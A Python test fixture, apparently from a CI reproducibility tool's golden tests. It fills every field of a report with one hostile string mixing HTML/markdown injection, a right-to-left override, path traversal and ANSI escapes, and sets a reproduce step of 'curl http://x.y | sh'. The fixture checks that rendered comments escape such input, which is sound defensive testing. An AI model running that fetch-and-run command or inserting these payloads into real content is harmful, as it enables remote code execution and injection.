# SPDX-License-Identifier: Apache-2.0
"""A report whose every text is an attack on the comment."""

from __future__ import annotations

from dataclasses import replace

from golden.comment.parts import CONTEXT
from golden.comment.single import LOSS, MOVED
from golden.report.parts import (
    DEPTH,
    DEPTH_CAUSE,
    IDENTICAL,
    MODEL,
    claim,
    leaf,
    report,
)

from repro_action.findings.observed import Agreement, suspicious
from repro_action.observation import Observation, ObservationKind
from repro_action.report.model import Fact, Goal, Notice, Report, Trend
from repro_action.verdict import Verdict

EVIL = (
    "a|b`c``d` @acme/team #1 <img src=//x.y/z> ![p](http://x.y/p.png) [l](http://x.y) </details> "
    "\u202egnp.\u202c ../../etc \x1b[31m <!-- --> **bold** &lt; $x$ :tada: http://x.y deadbeefcafe"
)


ODD = Observation(kind=ObservationKind.ENTROPY, what=EVIL, file=EVIL, line=3)


def hostile() -> Report:
    return report(
        Verdict.DRIFTED,
        EVIL,
        name=EVIL,
        tool=EVIL,
        causes=(replace(DEPTH_CAUSE, text=EVIL),) * 3,
        claim=claim(
            metrics=(replace(LOSS, name=EVIL, file=EVIL, allowed=EVIL),),
            artifacts=(
                replace(
                    MODEL, path=EVIL, step=EVIL, format=EVIL, reason=EVIL, leaves=(leaf(EVIL, reason=EVIL),)
                ),
            ),
            before=replace(MOVED.before, label=EVIL, revision=EVIL),
            after=replace(MOVED.before, label=EVIL, revision=EVIL),
            unchanged=IDENTICAL,
        ),
        change=replace(
            MOVED,
            before=replace(MOVED.before, label=EVIL),
            metrics=(replace(LOSS, name=EVIL, before=EVIL, after="| --- |"),),
            materials=(replace(DEPTH, name=EVIL, before=EVIL, after=EVIL),),
        ),
        environment=(Fact(name=EVIL, value=EVIL),),
        observations=(ODD,),
        findings=suspicious([ODD], Agreement.UNKNOWN),
        warnings=(Notice(what=EVIL, why=EVIL, remedy=EVIL, where=EVIL),),
        hints=(Notice(what=EVIL),),
        trends=(Trend(file=EVIL, name=EVIL, goal=Goal.MIN, values=(1.0, 2.0, 3.0)),),
        reproduce=("curl http://x.y | sh",),
        fingerprint=EVIL,
    )


HOSTILE_CONTEXT = replace(CONTEXT, base=EVIL, branch=EVIL, commit=EVIL, run_url=f"https://x.y/{EVIL}")
